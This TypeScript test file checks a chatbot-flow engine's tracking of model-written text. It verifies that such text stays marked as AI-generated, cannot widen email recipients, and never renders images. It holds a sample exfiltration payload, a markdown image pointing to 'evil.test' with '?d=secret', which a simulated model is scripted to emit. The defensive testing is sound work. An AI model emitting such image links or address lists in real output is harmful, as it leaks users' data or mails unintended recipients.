import { ok } from "@banter/protocol";
import { expect, it } from "vitest";
import type { EffectPorts } from "../effects/effect-ports.ts";
import { runTurn } from "../run/run-turn.ts";
import type { FlowState } from "../state/session-state.ts";
import { testPorts } from "../testing/test-ports.ts";
import { say, testBot, type TestBot } from "../testing/test-bot.ts";
import { talkTo } from "../testing/talk.ts";

/* What a model has written stays a model's text wherever it goes. */

const ADDRESSES = "one@test.de, two@test.de, three@test.de";
const IMAGE = "![i](https://evil.test/p.png?d=secret)";

type Fields = Record<string, unknown>;

const model = (options: Fields = {}): Fields => ({
  type: "openai",
  options: {
    action: "Create chat completion",
    messages: [{ role: "user", content: "Hi" }],
    responseMapping: [{ item: "Message content", variableId: "v-reply" }],
    ...options,
  },
});
const set = (expressionToEvaluate: string, more: Fields = {}): Fields => ({
  type: "Set variable",
  options: { variableId: "v-x", expressionToEvaluate, ...more },
});
const code = (content: string): Fields => ({ type: "Code", options: { content, isExecutedOnClient: false } });
const tool = {
  type: "function",
  name: "note",
  description: "Notes",
  parameters: [{ type: "string", name: "to", required: true }],
  code: 'setVariable("x", to)',
};
const link = (options: Fields = {}): Fields => ({
  type: "Typebot link",
  options: { typebotId: "linked", mergeResults: true, ...options },
});

const variables = { reply: null, x: null, other: null };
const showing = [{ type: "Email", options: { recipients: ["{{x}}"] } }, say("{{x}}")];

interface Way {
  readonly groups: TestBot["groups"];
  readonly linked?: TestBot["groups"];
}

const ways: Readonly<Record<string, Way>> = {
  "is copied": { groups: { g: [model(), set("{{reply}}"), ...showing] } },
  "is a part of a text": { groups: { g: [model(), set(" {{reply}}"), ...showing] } },
  "is set by code": { groups: { g: [model(), code('setVariable("x", {{reply}})'), ...showing] } },
  "is set by the code of another variable": {
    groups: {
      g: [model(), set('setVariable("x", {{reply}})', { variableId: "v-other", isCode: true }), ...showing],
    },
  },
  "is a parameter of a tool's code": { groups: { g: [model({ tools: [tool] }), ...showing] } },
  "is passed to a linked bot": {
    groups: { g: [model(), link()] },
    linked: { g: [set("{{reply}}"), ...showing] },
  },
  "is merged back from a linked bot": {
    groups: { g: [link(), ...showing] },
    linked: { g: [model(), set("{{reply}}")] },
  },
};

/** At its first chance it calls the tool with its text. */
function aiThatSays(text: string): EffectPorts["ai"] {
  let replies = 0;
  return {
    reserve: async () => ok("r"),
    text: async () => ok(text),
    fields: async () => ok({}),
    reply: async () =>
      ok(
        replies++ === 0
          ? { text: "", calls: [{ id: "1", name: "note", input: { to: text } }] }
          : { text, calls: [] },
      ),
  };
}

/** The recipients of the mail, and the last message, if the model writes this text. */
async function visit({ groups, linked = {} }: Way, text: string) {
  const sent: (readonly string[])[] = [];
  const ports: Partial<EffectPorts> = {
    ai: aiThatSays(text),
    linkedBot: async () => testBot({ id: "linked", groups: linked, variables }),
    sendEmail: async ({ to }) => {
      sent.push(to);
      return ok(undefined);
    },
  };
  const { turn } = await talkTo(testBot({ groups, variables }), {}, ports);
  return { sent, message: turn.reply.messages.at(-1) };
}

it.each(Object.entries(ways))(
  "that %s: it is one recipient, is marked, and loads no image",
  async (_, way) => {
    const mailed = await visit(way, ADDRESSES);
    expect(mailed.sent).toEqual([["one@test.de"]]);
    const { message } = await visit(way, IMAGE);
    expect(message?.content).toMatchObject({ isAiGenerated: true });
    expect(JSON.stringify(message)).not.toContain('"img"');
  },
);

it("that is replaced is no longer a model's", async () => {
  const way = { groups: { g: [model(), set("{{reply}}"), set("a@test.de, b@test.de"), ...showing] } };
  const { sent, message } = await visit(way, ADDRESSES);
  expect(sent).toEqual([["a@test.de", "b@test.de"]]);
  expect(message?.content?.["isAiGenerated"]).toBeUndefined();
});

it("that a visitor's text is added to stays both: marked, and shown verbatim", async () => {
  const way = { groups: { g: [model(), set("{{reply}} {{name}}"), ...showing] } };
  const bot = testBot({ ...way, variables: { ...variables, name: null } });
  const { turn } = await talkTo(
    bot,
    { prefilledVariables: { name: "*Ada*" } },
    { ai: aiThatSays("**bold**") },
  );
  expect(turn.reply.messages.at(-1)?.content).toMatchObject({
    isAiGenerated: true,
    richText: [{ children: [{ text: "**bold** *Ada*" }] }],
  });
});

it("that the conversation has said stays marked in later turns, after a linked bot has ended, and in lists of answers", async () => {
  const linked = testBot({ id: "linked", groups: { g: [model()] }, variables });
  const bot = testBot({
    groups: {
      g: [
        link(),
        { type: "text input", options: {} },
        { type: "Set variable", options: { variableId: "v-x", type: "Transcript" } },
        say("{{x}}"),
        set("", { type: "Append value(s)", variableId: "v-list", item: "{{reply}}" }),
        { type: "text input", options: { variableId: "v-list" } },
        say("{{list}}"),
        { type: "text input", options: {} },
      ],
    },
    variables: { ...variables, list: [] },
  });
  const start = await talkTo(bot, {}, { ai: aiThatSays("Soon"), linkedBot: async () => linked });
  const marks = ({ turn }: typeof start) =>
    turn.reply.messages.map(({ content }) => content?.["isAiGenerated"]);
  const second = await start.answer("When?");
  expect(marks(second)).toEqual([true]);
  expect(marks(await second.answer("Thanks"))).toEqual([true]);
});

it("that a tool's group gets as a parameter is a model's", async () => {
  const parameters = [{ type: "string", name: "to", required: true, variableId: "v-x" }];
  const booking = {
    type: "function",
    name: "note",
    description: "Notes",
    parameters,
    groupId: "t",
    result: "Done",
  };
  const way = { groups: { g: [model({ tools: [booking] }), ...showing], t: [] } };
  const { sent, message } = await visit(way, ADDRESSES);
  expect(sent).toEqual([["one@test.de"]]);
  expect(message?.content).toMatchObject({ isAiGenerated: true });
});

it("of a session that an earlier version has stored is known by the name of its variable", async () => {
  const bot = testBot({
    groups: { g: [model(), { type: "text input", options: {} }, say("{{reply}}")] },
    variables,
  });
  const start = await talkTo(bot, {}, { ai: aiThatSays(IMAGE) });
  const earlier: FlowState = JSON.parse(
    JSON.stringify(start.turn.state, (key, value) => (key === "modelVariables" ? undefined : value)),
  );
  const message = { type: "text", text: "x" } as const;
  const turn = await runTurn(bot, earlier, { type: "visitor-message", turn: 0, message }, testPorts());
  if (!turn.ok) throw new Error("The answer was refused");
  const [shown] = turn.value.reply.messages;
  expect(shown?.content).toMatchObject({ isAiGenerated: true });
  expect(JSON.stringify(shown)).not.toContain('"img"');
});
